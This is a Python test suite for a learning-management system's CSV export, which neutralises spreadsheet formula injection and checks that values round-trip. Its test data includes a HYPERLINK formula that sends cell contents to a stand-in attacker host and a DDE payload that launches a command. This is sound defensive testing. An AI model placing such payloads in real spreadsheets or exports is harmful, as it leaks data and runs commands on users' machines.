"""The shared CSV writer: no cell starts a formula, and the import reads back what was written."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from lms.csv_safe import FORMULA_STARTS, neutralise, restore, write_csv

DANGEROUS = [
    '=HYPERLINK("http://evil.example/"&A2,"x")@evil.example',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def test_each_formula_start_is_written_as_text():
    for value in DANGEROUS:
        assert neutralise(value) == "'" + value


def test_plain_values_and_dates_are_written_as_they_are():
    for value in ("ann@example.test", "2024-01-05", "Spring cohort", "", "'quoted", "a=b"):
        assert neutralise(value) == value
    assert neutralise(None) == "" and neutralise(3) == "3"


def test_a_value_that_already_looks_neutralised_keeps_its_apostrophe():
    assert neutralise("'=1") == "''=1"
    assert restore(neutralise("'=1")) == "'=1"


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1"])))
def test_no_cell_starts_a_formula_and_restore_gives_the_value_back(value):
    cell = neutralise(value)
    assert cell[:1] not in FORMULA_STARTS
    assert restore(cell) == value


def test_write_csv_neutralises_the_header_and_every_cell():
    text = write_csv(["name", "=h"], [["=cmd|' /C calc'!A0", "ok"], ["-1", 2]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "'=h"], ["'=cmd|' /C calc'!A0", "ok"], ["'-1", "2"]]
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row)
